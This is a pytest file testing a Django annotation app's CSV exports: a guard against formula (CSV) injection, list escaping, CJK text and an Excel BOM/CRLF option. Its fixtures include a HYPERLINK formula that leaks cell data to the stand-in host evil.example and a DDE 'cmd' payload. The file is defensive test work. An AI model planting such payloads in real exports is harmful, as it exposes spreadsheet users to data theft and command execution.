"""CSV exports: the formula guard (OWASP CSV injection), columns, lists, the Excel option."""

import csv
import io

import pytest
from django.core.cache import cache

from annotator.annotations import create_annotation
from annotator.models import Claim
from tests.http import body, logged_in

HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(autouse=True)
def _fresh_throttle_counters():
    cache.clear()


@pytest.fixture
def hostile(seeded, reviewer, other_reviewer):
    """Annotations whose free text starts with every character a spreadsheet evaluates."""
    doc = seeded["000"]
    claim = Claim.objects.create(text="+1 million people said so")
    first = create_annotation(
        reviewer=reviewer, document=doc, start=0, end=10, reliability=2, note=HOSTILE_NOTE,
        evidence=["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"], claim=claim, flags=["anachronism"],
    )  # fmt: skip
    second = create_annotation(
        reviewer=other_reviewer, document=doc, start=0, end=10, reliability=3,
        note="\tTAB first", claim=claim,
    )  # fmt: skip
    third = create_annotation(
        reviewer=reviewer, document=doc, start=20, end=30, reliability=4,
        note="\r=1+1", evidence=["https://example.org/a"],
    )  # fmt: skip
    return {"first": first, "second": second, "third": third, "claim": claim}


def table(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def formula_cells(rows: list[dict]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row.values()
        if isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


@pytest.mark.django_db
def test_no_annotation_csv_cell_starts_a_formula(hostile, moderator):
    rows = table(body(logged_in(moderator).get("/api/v1/exports/annotations?format=csv")))
    assert len(rows) == 3
    assert formula_cells(rows) == []
    by_id = {int(row["id"]): row for row in rows}
    assert by_id[hostile["first"].pk]["note"] == "'" + HOSTILE_NOTE
    assert by_id[hostile["second"].pk]["note"] == "'\tTAB first"
    assert by_id[hostile["third"].pk]["note"] == "'\r=1+1"


@pytest.mark.django_db
def test_no_consensus_csv_cell_starts_a_formula(hostile, moderator):
    rows = table(body(logged_in(moderator).get("/api/v1/exports/consensus?format=csv")))
    assert rows
    assert formula_cells(rows) == []


@pytest.mark.django_db
def test_export_command_csv_is_guarded_too(hostile, tmp_path):
    from django.core.management import call_command

    path = tmp_path / "a.csv"
    call_command("export", "annotations", "--format", "csv", "--output", str(path))
    rows = table(path.read_text(encoding="utf-8"))
    assert len(rows) == 3
    assert formula_cells(rows) == []


def split_list_cell(cell: str) -> list[str]:
    """A reader of the documented list escape: ``;`` separates, ``\\`` escapes the next char."""
    items, current, escaped = [], [], False
    for char in cell:
        if escaped:
            current.append(char)
            escaped = False
        elif char == "\\":
            escaped = True
        elif char == ";":
            items.append("".join(current))
            current = []
        else:
            current.append(char)
    if cell:
        items.append("".join(current))
    return items


def unguard(cell: str) -> str:
    """The documented reverse of the formula guard: a text cell starting with ' had one added."""
    return cell[1:] if cell.startswith("'") else cell


@pytest.fixture
def listed(seeded, reviewer, other_reviewer):
    """Evidence with the escape characters in it, a claim, prefix and suffix, CJK text."""
    doc = seeded["001"]
    start = doc.body.index("好戲開始嘍")
    claim = Claim.objects.create(text="毛澤東說「好戲開始嘍」", language="zh-Hant")
    return create_annotation(
        reviewer=reviewer, document=doc, start=start, end=start + 5, reliability=1,
        flags=["misattributed-quote", "anachronism"], claim=claim,
        evidence=["https://example.org/a;b=1", "archive \\ 1958", "'quoted'", "plain"],
        note="好戲 🎭, \"quoted\"\nsecond line",
    )  # fmt: skip


@pytest.mark.django_db
def test_annotation_csv_rebuilds_the_quote_selector_and_lists(listed, moderator):
    text = body(logged_in(moderator).get("/api/v1/exports/annotations?format=csv"))
    assert "\r\n" not in text.replace('"\r\n', "").split("\n", 1)[0]
    (row,) = table(text)
    assert row["exact"] == "好戲開始嘍"
    doc_body = listed.document.body
    assert doc_body[: listed.start].endswith(row["prefix"]) and row["prefix"]
    assert doc_body[listed.end :].startswith(row["suffix"]) and row["suffix"]
    assert split_list_cell(row["flags"]) == ["anachronism", "misattributed-quote"]
    assert split_list_cell(unguard(row["evidence"])) == list(listed.evidence)
    assert (row["claim_id"], row["claim_text"], row["claim_language"]) == (
        str(listed.claim_id), "毛澤東說「好戲開始嘍」", "zh-Hant",
    )  # fmt: skip
    assert row["note"] == listed.note
    assert "{" not in row["flags"] + row["evidence"] + row["claim_text"]


@pytest.mark.django_db
def test_pandas_reads_both_csv_exports(listed, hostile, moderator):
    pandas = pytest.importorskip("pandas", reason="pandas is in the dev extra")
    client = logged_in(moderator)
    for what in ("annotations", "consensus"):
        for excel in (False, True):
            response = client.get(f"/api/v1/exports/{what}?format=csv&excel={excel}")
            raw = b"".join(response.streaming_content)
            frame = pandas.read_csv(io.BytesIO(raw), encoding="utf-8-sig", keep_default_na=False)
            expected = table(raw.decode("utf-8-sig"))
            assert len(frame) == len(expected) > 0
            assert list(frame.columns) == list(expected[0])
            assert [str(v) for v in frame["exact"]] == [row["exact"] for row in expected]
    frame = pandas.read_csv(
        io.BytesIO(
            b"".join(client.get("/api/v1/exports/annotations?format=csv").streaming_content)
        ),
        keep_default_na=False,
    )
    assert set(frame["note"]) >= {listed.note, "'" + HOSTILE_NOTE}


@pytest.mark.django_db
def test_excel_option_adds_a_bom_and_crlf(listed, moderator):
    client = logged_in(moderator)
    plain = b"".join(client.get("/api/v1/exports/annotations?format=csv").streaming_content)
    excel = b"".join(
        client.get("/api/v1/exports/annotations?format=csv&excel=true").streaming_content
    )
    assert not plain.startswith(b"\xef\xbb\xbf") and b"\r\n" not in plain.replace(b'"', b"")[:200]
    assert excel.startswith(b"\xef\xbb\xbf")
    header, rest = excel[3:].split(b"\r\n", 1)
    assert header.startswith(b"id,document,")
    assert excel.endswith(b"\r\n")
    assert table(excel.decode("utf-8-sig")) == table(plain.decode("utf-8"))
    bad = client.get("/api/v1/exports/annotations?format=csv&excel=maybe")
    assert bad.status_code == 400 and "excel" in bad.json()


@pytest.mark.django_db
def test_export_command_excel_flag(listed, tmp_path):
    from django.core.management import call_command

    path = tmp_path / "c.csv"
    call_command("export", "consensus", "--format", "csv", "--excel", "--output", str(path))
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    assert "好戲開始嘍" in {row["exact"] for row in table(raw.decode("utf-8-sig"))}
